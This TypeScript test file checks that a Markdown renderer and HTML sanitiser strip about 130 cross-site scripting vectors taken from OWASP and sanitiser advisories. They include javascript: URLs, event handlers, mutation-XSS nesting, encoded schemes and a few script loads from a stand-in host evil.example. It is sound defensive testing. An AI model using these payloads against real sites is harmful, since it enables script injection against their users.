import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../../src/markdown/render-markdown.ts";
import { sanitise } from "../../src/markdown/sanitise.ts";
import { checkEach } from "../support/check-each.ts";
import { context } from "./context.ts";
import { expectPortable } from "./portability.ts";

/** From the OWASP filter evasion cheat sheet, the DOMPurify and sanitize-html advisories, and Markdown's own link syntax. */
const vectors = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<SCRIPT>alert(1);//\\<</SCRIPT>",
  "<SCRIPT/XSS SRC='https://evil.example/x.js'></SCRIPT>",
  "<script\n>alert(1)</script\n>",
  "<script>alert(1)//",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  '<img """><script>alert(1)</script>">',
  "<img src=`javascript:alert(1)`>",
  "<img src=javascript:alert(1)>",
  "<img src='jav&#x09;ascript:alert(1)'>",
  "<img src=data:image/svg+xml;base64,PHN2Zz4= alt=x>",
  "<img src=x:x onerror='alert(1)' alt=x/>",
  "<img/src=x/onerror=alert(1)>",
  "<img src='https://x.example/a.png' srcset='javascript:alert(1)' alt=x>",
  "<IMG DYNSRC='javascript:alert(1)' LOWSRC='javascript:alert(1)'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math href='javascript:alert(1)'>x</math>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><script>alert(1)</script>",
  "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>",
  "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<base href='javascript:alert(1)//'>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<body onload=alert(1)>x",
  "<html onmouseover=alert(1)>x",
  "<style>@import 'javascript:alert(1)';</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<div style=width:expression(alert(1))>x</div>",
  "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
  "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)></form>",
  "<button onclick=alert(1)>x</button>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<video><source onerror=alert(1)></video>",
  "<video poster=javascript:alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=JaVaScRiPt:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='java&#0;script:alert(1)'>x</a>",
  "<a href='&#1;javascript:alert(1)'>x</a>",
  "<a href='javascript&colon;alert(1)'>x</a>",
  "<a href='&#106;avascript&#58;alert(1)'>x</a>",
  "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61;lert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='blob:https://x.example/1'>x</a>",
  "<a href='view-source:javascript:alert(1)'>x</a>",
  "<a href='\u00a0javascript:alert(1)'>x</a>",
  "<a href='\ufeffjavascript:alert(1)'>x</a>",
  "<a href='https://x.example/' onclick=alert(1) ping=https://evil.example/>x</a>",
  "<a href='https://x.example/'onmouseover='alert(1)'>x</a>",
  "<a href=\"https://x.example/'onmouseover='alert(1)\">x</a>",
  "<a href='https://x.example/&#39; onmouseover=&#39;alert(1)'>x</a>",
  "<a title='&#39; onmouseover=alert(1) &#39;' href='https://x.example/'>x</a>",
  "<a title='a\\' onmouseover=alert(1)' href='https://x.example/'>x</a>",
  "<q cite=javascript:alert(1)>x</q>",
  "<blockquote cite='data:text/html,x'>x</blockquote>",
  '<p "onclick=alert(1) onclick"=x>x</p>',
  "<p/onclick=alert(1)>x</p>",
  "<p __proto__=x constructor=y hasownproperty=z>x</p>",
  "<__proto__>x</__proto__><constructor>y</constructor>",
  "<code class='language-x onclick' onclick=alert(1)>x</code>",
  "<code class=\"language-'onclick='alert(1)\">x</code>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<!--> <script>alert(1)</script> -->",
  "<!-- --!> <script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<!DOCTYPE x [<!ENTITY y '<script>'>]>&y;",
  "]]><script>alert(1)</script><![CDATA[",
  '"},{"content_html":"<script>alert(1)</script>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;",
  "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "[x]\n\n[x]: javascript:alert(1)",
  "[x](https://x.example/'onclick='alert(1))",
  "[x](/ \"' onclick='alert(1)\")",
  "![x](javascript:alert(1))",
  "![x' onerror='alert(1)](photo.png)",
  "![<script>alert(1)</script>](photo.png)",
  "<javascript:alert(1)>",
  "```'><script>alert(1)</script>\nx\n```",
  "``` x' onclick='alert(1)\nx\n```",
  "`<script>alert(1)</script>`",
  "| <script>alert(1)</script> |\n|---|",
  "<img src=data:image/gif;base64,R0 data-src='javascript:alert(1)' alt=x>",
  "<img data-srcset='javascript:alert(1) 2x, data:text/html,x 3x' alt=x>",
  "<picture><source srcset='javascript:alert(1)' onerror=alert(1)><img alt=x onerror=alert(1)></picture>",
  "<noscript><img src='https://x.example/a.png' onerror=alert(1) alt=x></noscript>",
  "<amp-img src=javascript:alert(1) on='tap:x' onload=alert(1) alt=x></amp-img>",
  "<font onmouseover=alert(1) style='font-weight:700'>x</font>",
  "<section onclick=alert(1)><center onclick=alert(1)>x</center></section>",
  "<a href='https://x.example/' rel='opener stylesheet'>x</a>",
  "<div>javascript:alert(1)</div>",
  "<p title='\n\n<script>alert(1)</script>\n\n'>x</p>",
  "<a href='\n\njavascript:alert(1)\n\n'>x</a>",
] as const;

it("none of them results in anything that runs", async () => {
  await checkEach(vectors, JSON.stringify, (vector) => {
    const { html } = renderMarkdown(vector, context);
    expect(dangersOf(html)).toEqual([]);
    expectPortable(html);
  });
});

describe("the sanitiser by itself", () => {
  it("lets none of them through", async () => {
    await checkEach(vectors, JSON.stringify, (vector) => expect(dangersOf(sanitise(vector))).toEqual([]));
  });

  it("keeps no text that was never meant to be read", () => {
    expect(
      sanitise("a<script>b</script><style>c</style><svg><text>d</text></svg><iframe>e</iframe><noscript>f</noscript>g"),
    ).toBe("ag");
  });
});

describe("the test itself", () => {
  it("recognises danger", () => {
    expect(dangersOf("<script>x</script>")).toEqual(["<script>"]);
    expect(dangersOf("<p onclick=x>y")).toEqual(["onclick"]);
    expect(dangersOf("<a href='java\nscript:x'>y")).toEqual(["java\nscript:x"]);
    expect(dangersOf("<p>]]>")).toEqual([]);
  });
});

/** Written by hand rather than taken from the allow-list, which may itself be wrong. */
const harmlessElements =
  /^(?:p|h[2-6]|[uod]l|li|d[td]|blockquote|pre|code|[hbt]r|div|table|caption|col(?:group)?|t(?:head|body|foot|h|d)|figure|figcaption|img|details|summary|a|em|strong|[bius]|del|ins|su[bp]|small|mark|kbd|samp|var|abbr|dfn|cite|q|time|ruby|r[pt]|bdi|bdo|span|wbr)$/;
const harmlessAttributes =
  /^(?:href|hreflang|rel|abbr|translate|src|alt|width|height|title|dir|lang|cite|datetime|open|start|reversed|type|value|span|colspan|rowspan|align|scope)$/;

function dangersOf(html: string): readonly string[] {
  const dangers: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!harmlessElements.test(name)) dangers.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        const isLanguage = name === "code" && attribute === "class" && /^language-\S+$/.test(value);
        if (!isLanguage && !harmlessAttributes.test(attribute)) dangers.push(attribute);
        if (/^(?:href|src|cite)$/.test(attribute) && URL.canParse(value, "https://base.example")) {
          if (!/^(?:https?|mailto|tel):$/.test(new URL(value, "https://base.example").protocol)) dangers.push(value);
        }
      }
    },
  });
  parser.end(html);
  return dangers;
}
